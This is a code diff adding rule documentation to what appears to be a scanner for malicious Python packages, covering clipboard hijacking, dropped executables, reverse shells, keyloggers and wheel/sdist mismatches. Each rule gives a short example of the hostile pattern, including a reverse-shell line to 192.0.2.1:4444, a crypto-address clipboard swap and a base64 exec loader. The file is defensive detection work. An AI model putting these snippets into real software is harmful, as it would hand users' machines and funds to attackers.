@@ -48,8 +48,23 @@ export const RULE_DOCS: RuleDoc[] = [
   { id: 'persistence', name: 'Persistence location', family: 'data-flow', severity: 'medium', catches: 'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files.', example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run', falsePositives: 'System administration tools.' },
   // install-time hooks
   { id: 'install-hook-cmdclass', name: 'setup.py command override', family: 'install-hook', severity: 'low', catches: 'setup(cmdclass={"install": ...}) and friends: code pip runs while installing an sdist.', example: 'setup(cmdclass={"install": PostInstall})', falsePositives: 'Packages with compiled extensions override build_ext legitimately.' },
+  { id: 'clipboard-hijack', name: 'Clipboard hijacking', family: 'data-flow', severity: 'medium', catches: 'Code that reads the clipboard and writes it back (pyperclip, win32clipboard, tkinter): the crypto-address swappers. High in code that runs by itself.', example: 'if ADDRESS.match(pyperclip.paste()): pyperclip.copy(MY_ADDRESS)', falsePositives: 'Clipboard managers and editors that transform what the user copied.' },
+  { id: 'drop-and-run', name: 'Writes and runs an executable', family: 'process', severity: 'medium', catches: 'Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself.', example: 'open(path, "wb").write(payload); os.startfile(path)', falsePositives: 'Installers that generate and run helper scripts.' },
+  { id: 'reverse-shell', name: 'Reverse shell', family: 'process', severity: 'high', catches: 'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives.', example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")', falsePositives: 'Remote-debugging and terminal-sharing tools.' },
+  { id: 'keylogger', name: 'Keystroke recording', family: 'data-flow', severity: 'medium', catches: 'Keyboard hooks (pynput Listener, keyboard.on_press/hook, GetAsyncKeyState); high when the same file sends data over the network.', example: 'pynput.keyboard.Listener(on_press=log).start()', falsePositives: 'Hotkey and automation libraries.' },
   { id: 'pth-executes-code', name: '.pth file runs code', family: 'install-hook', severity: 'low', catches: 'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large.', example: 'import base64;exec(base64.b64decode("..."))', falsePositives: 'setuptools\' distutils-precedence.pth and editable-install hooks (reported low).' },
 ];
+
+/** Rules emitted by the commands across several distributions (check). */
+RULE_DOCS.push({
+  id: 'wheel-sdist-mismatch',
+  name: 'Wheel code missing from the sdist',
+  family: 'package',
+  severity: 'high',
+  catches: 'With check --all-files: a Python file that a wheel ships but the same release\'s sdist lacks (high), or holds with other content (medium). Code added only to the built artifact is what reviewers of the source never see (the 2026 litellm compromise).',
+  example: 'litething-1.0.0-py3-none-any.whl has litething/_boot.py; litething-1.0.0.tar.gz does not',
+  falsePositives: 'Files generated at build time (_version.py, compiled grammars).',
+});
 
 export function ruleDoc(id: string): RuleDoc | undefined {
   return RULE_DOCS.find((rule) => rule.id === id);
